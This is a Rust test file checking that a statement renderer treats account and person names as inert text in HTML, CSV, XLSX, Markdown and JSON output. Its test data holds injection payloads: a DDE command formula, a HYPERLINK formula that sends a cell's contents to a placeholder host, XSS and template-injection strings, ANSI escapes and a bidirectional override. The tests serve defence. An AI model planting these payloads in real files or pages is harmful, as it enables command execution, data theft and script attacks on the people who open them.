//! What a statement says in every format, and what names in it cannot do.

use std::io::Read as _;

use super::fixture::statement_of;
use super::{FORMATS, Pages, TemplateError, write};
use crate::render::Format;
use crate::render::laws::read_delimited;
use crate::report::statement::Statement;

/// The names of people and accounts that a page, a spreadsheet or a terminal might obey.
const NAMES: [&str; 18] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r\n=1+1",
    "=HYPERLINK(\"https://example.invalid/?\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</td></tr></table>",
    "&amp;lt;b&amp;gt;",
    "{{7*7}}",
    "{% raw %}",
    "[x](javascript:alert(1))",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{202e}evil",
];

fn bytes(statement: &Statement, format: Format) -> Vec<u8> {
    let mut out = Vec::new();
    write(statement, format, &Pages::built_in(), &mut out).unwrap();
    out
}

fn text(statement: &Statement, format: Format) -> String {
    String::from_utf8(bytes(statement, format)).unwrap()
}

/// The parts of a workbook by their names.
fn parts(workbook: &[u8]) -> Vec<(String, String)> {
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(workbook)).unwrap();
    let mut parts = Vec::new();
    for at in 0..archive.len() {
        let mut file = archive.by_index(at).unwrap();
        let mut text = String::new();
        file.read_to_string(&mut text).unwrap();
        parts.push((file.name().unwrap().into_owned(), text));
    }
    parts
}

fn part(workbook: &[u8], name: &str) -> String {
    parts(workbook).into_iter().find(|(known, _)| known == name).unwrap().1
}

#[test]
fn a_page_says_all_that_is_known() {
    let page = text(&statement_of("Ana Ruiz", "Globex"), Format::Html);
    for expected in [
        "<h1>Ana Ruiz<span class=\"status\">draft</span></h1>",
        "<strong>3,500.00 USD</strong>",
        "2026 to date, payable</span><strong>58,200.25 USD</strong>",
        "version 2026-01-01",
        "full quota 200,000.00",
        "<li>present on 46 of 92 days</li>",
        "<strong>110.0 %</strong>",
        "style=\"width:calc(110% / 1.5)\"",
        "<svg class=\"chart\"",
        "<span>9 %<br><span class=\"small\">tier 2</span></span>",
        "target incentive 2,500.00 (full 5,000.00)",
        "<td data-label=\"Pay\" class=\"number below\">-3,450.00</td>",
        "<h3>Differences to earlier periods</h3>",
        "2026-09: late deal",
        "not payable yet: 3,450.00",
        "<th scope=\"row\">Owed after</th><td class=\"number\">500.00</td>",
        "Ask within 30 days.",
        "Manifest of the closed period: 3f2a91",
    ] {
        assert!(page.contains(expected), "`{expected}` is not in {page}");
    }
    assert!(!page.contains("<script") && !page.contains("://"), "{page}");
}

#[test]
fn names_are_plain_text_in_every_format() {
    for name in NAMES {
        let statement = statement_of(name, name);
        let page = text(&statement, Format::Html);
        let plain = text(&statement_of("plain", "plain"), Format::Html);
        assert_eq!(page.matches('<').count(), plain.matches('<').count(), "{name}: {page}");
        assert!(!page.contains("49"), "{name} is not worked out");
        let csv = text(&statement, Format::Csv);
        let mut records = read_delimited(&csv, ',').into_iter();
        assert!(records.next().is_some());
        for record in records {
            for cell in record.iter().filter(|cell| cell.parse::<f64>().is_err()) {
                let first = cell.chars().next().unwrap_or(' ');
                assert!(!"=+-@\t\r\n＝＋－＠".contains(first), "{name}: `{cell}`");
            }
        }
        let json: serde_json::Value = serde_json::from_slice(&bytes(&statement, Format::Json)).unwrap();
        assert_eq!(json["name"], name);
        assert_eq!(json["lines"][0]["account"], name);
        let markdown = text(&statement, Format::Markdown);
        assert!(!markdown.contains('\u{1b}') && !markdown.replace("\\<", "").contains('<'), "{markdown}");
        for (file, xml) in parts(&bytes(&statement, Format::Xlsx)) {
            assert!(!xml.contains("<f>") && !xml.contains("<hyperlink"), "{name}: {file}");
        }
    }
}

#[test]
fn csv_lines_add_up_to_the_pay() {
    let csv = text(&statement_of("Ana", "Globex"), Format::Csv);
    let mut records = read_delimited(&csv, ',').into_iter();
    let header = records.next().unwrap();
    let place = header.iter().position(|name| name == "payable").unwrap();
    let cents: i64 = records.map(|record| record[place].replace('.', "").parse::<i64>().unwrap()).sum();
    assert_eq!(cents, 350_000);
}

#[test]
fn a_workbook_has_numbers_days_and_texts_as_such() {
    let workbook = bytes(&statement_of("Ana", "Globex"), Format::Xlsx);
    assert_eq!(workbook, bytes(&statement_of("Ana", "Globex"), Format::Xlsx), "the same bytes");
    let names = part(&workbook, "xl/workbook.xml");
    for sheet in ["Statement", "Payouts", "Quota and attainment", "Lines", "Year to date"] {
        assert!(names.contains(&format!("<sheet name=\"{sheet}\"")), "{names}");
    }
    let lines = part(&workbook, "xl/worksheets/sheet4.xml");
    // 2026-10-14 is day 46,309 of spreadsheets: 45,658 is 2025-01-01, and 651 days later.
    for number in ["<v>46309</v>", "<v>110000</v>", "<v>0.06</v>", "<v>-3450</v>", "<v>120.5</v>"] {
        assert!(lines.contains(number), "`{number}` is not in {lines}");
    }
    assert!(lines.contains("<autoFilter ref=\"A1:T6\"/>") && lines.contains("state=\"frozen\""), "{lines}");
    let properties = part(&workbook, "docProps/core.xml");
    assert!(properties.contains("2000-01-01T00:00:00Z"), "{properties}");
}

#[test]
fn a_folder_of_templates_replaces_the_page() {
    let file = |name: &str, text: &str| (name.to_owned(), text.to_owned());
    let pages = Pages::of(vec![
        file(
            "statement.html",
            "{% include 'head.html' %}{% for part in parts %}{{ part.payable }}{% endfor %}",
        ),
        file("head.html", "<p>{{ rep.name }}</p>"),
    ])
    .unwrap();
    let mut out = Vec::new();
    write(&statement_of("<b>", "x"), Format::Html, &pages, &mut out).unwrap();
    assert_eq!(String::from_utf8(out).unwrap(), "<p>&lt;b&gt;</p>3,500.00");

    assert!(matches!(Pages::of(vec![file("page.html", "")]), Err(TemplateError::Missing)));
    let error = Pages::of(vec![file("statement.html", "\n{% for %}")]).unwrap_err();
    assert!(error.to_string().starts_with("`statement.html`, line 2, is no template: "), "{error}");
    let pages = Pages::of(vec![file("statement.html", "{{ rep.nmae }}{{ payables }}")]).unwrap();
    let error = write(&statement_of("a", "b"), Format::Html, &pages, &mut Vec::new()).unwrap_err();
    assert!(
        error.to_string().starts_with("the template `statement.html`, line 1: undefined value"),
        "{error}"
    );
}

#[test]
fn other_formats_are_refused_by_name() {
    let statement = statement_of("Ana", "Globex");
    let error = write(&statement, Format::Parquet, &Pages::built_in(), &mut Vec::new()).unwrap_err();
    assert_eq!(error.to_string(), "statements are not written as `parquet`");
    assert_eq!(FORMATS.map(Format::name), ["html", "xlsx", "markdown", "csv", "json"]);
}
